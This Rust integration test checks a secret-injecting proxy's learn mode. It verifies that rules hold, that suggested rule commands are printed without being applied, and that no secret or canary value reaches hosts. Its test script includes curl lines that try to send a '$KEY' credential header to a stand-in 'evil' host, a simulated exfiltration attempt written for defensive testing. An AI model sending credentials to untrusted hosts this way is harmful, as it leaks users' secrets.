//! `proxy run --learn`: hosts are reached without values, rules hold, and at the end there are commands for what was asked.

use crate::world::{VALUE, World};

#[test]
fn what_a_program_asks_for_is_printed_as_commands_and_nothing_is_applied() {
    let test = "what_a_program_asks_for_is_printed_as_commands_and_nothing_is_applied";
    let Some(world) = World::new(test) else { return };
    world.rule(&["--host", &world.host(), "--path", "/v1/**"]);
    let before = world.env.ctl(["proxy", "rule", "show", "KEY", "--json"]).expect(0);
    let script = format!(
        "curl -sS -o /dev/null -H \"Authorization: Bearer $KEY\" '{0}/v1/users/12?a=canary-query'
        curl -sS -o /dev/null -H \"Authorization: Bearer $KEY\" -d canary-body '{0}/v1/users/13'
        curl -sS -H \"Authorization: Bearer $KEY\" '{0}/v2/no'; echo
        curl -sS '{1}/v1/echo'; echo
        curl -sS -H \"X-Api-Key: $KEY\" '{1}/v1/echo'",
        world.url(""),
        world.evil_url("")
    );
    let output = world.run_with(&["-s", "KEY", "--learn"], &["sh", "-c", &script]);
    world.assert_nowhere(&output);
    let (out, err) = (output.out(), output.err());
    let answers: Vec<&str> = out.lines().collect();
    // Rules hold as ever; hosts are open, and get no value.
    assert!(answers[0].contains("\"rule_mismatch\""), "{out}{err}");
    assert!(answers[1].contains("GET /v1/echo"), "{out}{err}");
    assert!(answers[2].contains("\"host_not_allowed\""), "{out}{err}");
    assert_eq!(world.evil.seen().len(), 1);
    assert_eq!(world.origin.seen().len(), 2);
    assert_eq!(world.origin.last().header("authorization"), Some(format!("Bearer {VALUE}").as_str()));
    let commands: Vec<&str> = err.lines().filter(|line| line.starts_with("secretctl proxy")).collect();
    let host = world.host();
    let evil = world.evil_url("").replace("https://", "");
    let expected = [
        format!(
            "secretctl proxy rule set KEY --host {host} --method GET,POST --path '/v1/users/*' --path '/v2/no' --site bearer --private"
        ),
        format!(
            "secretctl proxy rule set KEY --host {evil} --method GET --path '/v1/echo' --site header:x-api-key"
        ),
    ];
    assert_eq!(commands, expected, "{err}");
    assert!(!err.contains("canary"), "{err}");
    assert_eq!(world.env.ctl(["proxy", "rule", "show", "KEY", "--json"]).expect(0), before);
}
